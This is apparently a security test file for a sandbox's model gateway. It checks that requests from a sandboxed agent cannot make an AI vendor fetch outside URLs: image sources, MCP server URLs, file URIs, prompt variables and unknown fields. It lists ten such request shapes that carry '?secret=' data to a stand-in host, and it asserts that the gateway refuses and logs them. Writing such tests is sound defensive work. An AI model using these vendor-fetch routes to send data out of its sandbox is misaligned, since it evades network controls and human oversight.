/**
 * Threat 10, at the model gateway: the vendor as a way to fetch. An address in a request is called from the vendor's
 * machines, past the policy of the box, with whatever the box has written into it.
 */
import { afterAll, expect, it } from "vitest";
import { waitFor } from "../../src/base/wait-for.ts";
import { modelHost } from "../../src/contract/model/api.ts";
import { eventsOf, onAgents } from "../support/agents.ts";
import { startFetchingModel } from "../support/fetching-model.ts";
import { shell } from "../support/network-ground.ts";

const model = await startFetchingModel();
afterAll(() => model[Symbol.asyncDispose]());

const box = "fetcher";
const held = "data:image/png;base64,AAAA";

interface RemoteFetch {
  readonly what: string;
  readonly path: string;
  /** The same request, with an address in it or with the thing itself. */
  readonly body: (address: string, isHeld: boolean) => object;
}

const gemini = "/eyes-gemini/v1beta/models/m:generateContent";
const user = (...content: object[]) => [{ role: "user", content }];
const source = (url: string, isHeld: boolean) =>
  isHeld ? { type: "base64", media_type: "image/png", data: "AAAA" } : { type: "url", url };
const messages = (...content: object[]) => ({ model: "m", max_tokens: 16, messages: user(...content) });

const remoteFetches: readonly RemoteFetch[] = [
  {
    what: "a picture in a document in a tool's result",
    path: "/eyes-anthropic/v1/messages",
    body: (url, isHeld) => {
      const content = [{ type: "image", source: source(url, isHeld) }];
      const document = { type: "document", source: { type: "content", content } };
      return messages({ type: "tool_result", tool_use_id: "1", content: [document] });
    },
  },
  {
    what: "an MCP server",
    path: "/eyes-anthropic/v1/messages",
    body: (url, isHeld) => ({
      ...messages({ type: "text", text: "hello" }),
      mcp_servers: isHeld ? [] : [{ type: "url", name: "x", url }],
    }),
  },
  {
    what: "a picture where tokens are only counted",
    path: "/eyes-anthropic/v1/messages/count_tokens",
    body: (url, isHeld) => messages({ type: "image", source: source(url, isHeld) }),
  },
  {
    what: "a variable of a stored prompt",
    path: "/eyes-openai/v1/responses",
    body: (image_url, isHeld) => ({
      model: "m",
      input: "hello",
      prompt: isHeld ? null : { id: "pmpt_1", variables: { a: { type: "input_image", image_url } } },
    }),
  },
  {
    what: "the mask of a picture",
    path: "/eyes-openai/v1/responses",
    body: (image_url) => ({
      model: "m",
      input: "hello",
      tools: [{ type: "image_generation", input_image_mask: { image_url } }],
    }),
  },
  {
    what: "a film",
    path: "/eyes-openai/v1/chat/completions",
    body: (url) => messages({ type: "video_url", video_url: { url } }),
  },
  {
    what: "a file",
    path: "/eyes-openai/v1/chat/completions",
    body: (file_data) => messages({ type: "file", file: { file_data } }),
  },
  {
    what: "a field of which nobody knows",
    path: "/eyes-openai/v1/chat/completions",
    body: (url, isHeld) => ({
      ...messages({ type: "text", text: "hello" }),
      ...(isHeld ? {} : { extras: [{ url }] }),
    }),
  },
  {
    what: "a file in a function's answer",
    path: gemini,
    body: (fileUri, isHeld) => {
      const part = isHeld
        ? { inlineData: { mimeType: "image/png", data: "AAAA" } }
        : { fileData: { fileUri } };
      const functionResponse = { name: "x", response: {}, parts: [part] };
      return { contents: [{ role: "user", parts: [{ functionResponse }] }] };
    },
  },
  {
    what: "an MCP server among tools",
    path: gemini,
    body: (url, isHeld) => ({
      contents: [{ role: "user", parts: [{ text: "hello" }] }],
      tools: [
        {
          functionDeclarations: [],
          ...(isHeld ? {} : { mcpServers: [{ streamableHttpTransport: { url } }] }),
        },
      ],
    }),
  },
];

const config = ["anthropic", "openai", "gemini"]
  .map((api) => `[model.providers.eyes-${api}]\napi = "${api}"\nbase_url = "${model.url}"\n`)
  .join("\n");

onAgents("what a vendor would fetch", { config }, (ground) => {
  it("is a way out where nobody looks into the request", async () => {
    for (const [at, { what, path, body }] of remoteFetches.entries()) {
      const sent = JSON.stringify(body(`${model.away}/control?secret=${at}`, false));
      await fetch(model.url + path.replace(/^\/[^/]+/, ""), { method: "POST", body: sent });
      expect(model.arrived, what).toContain(`/control?secret=${at}`);
    }
  });

  it("is refused for a box, and recorded; the thing itself passes", async () => {
    const { daemon } = ground;
    await daemon.client.createBox({
      name: box,
      flags: { workspace: { mode: "empty" }, model: { provider: "eyes-anthropic" } },
    });
    const ask = async (path: string, body: object): Promise<string> => {
      const curl = `curl -sS -m 10 -w '\\n%{http_code}' -H 'content-type: application/json'`;
      const { stdout, stderr } = await shell(
        daemon,
        box,
        `${curl} -d '${JSON.stringify(body)}' http://${modelHost}${path}`,
      );
      expect(stderr).toBe("");
      return stdout;
    };
    model.arrived.length = 0;
    for (const [at, { what, path, body }] of remoteFetches.entries()) {
      const asked = model.asked.length;
      expect(await ask(path, body(held, true)), what).toMatch(/"seen"[\s\S]*\n200$/);
      expect(model.asked.length, what).toBe(asked + 1);

      const before = (await eventsOf(daemon, box, "model.refused")).length;
      const answer = await ask(path, body(`${model.away}/box?secret=${at}`, false));
      expect(answer, what).toMatch(/\n400$/);
      expect(answer, what).toContain("model.bad_request");
      const events = await waitFor(`the refusal of ${what} is recorded`, async () => {
        const found = await eventsOf(daemon, box, "model.refused");
        return found.length > before && found;
      });
      expect(events.at(-1)?.data, what).toMatchObject({ code: "model.bad_request" });
      expect(model.asked.length, what).toBe(asked + 1);
    }
    expect(model.arrived).toEqual([]);
  });
});
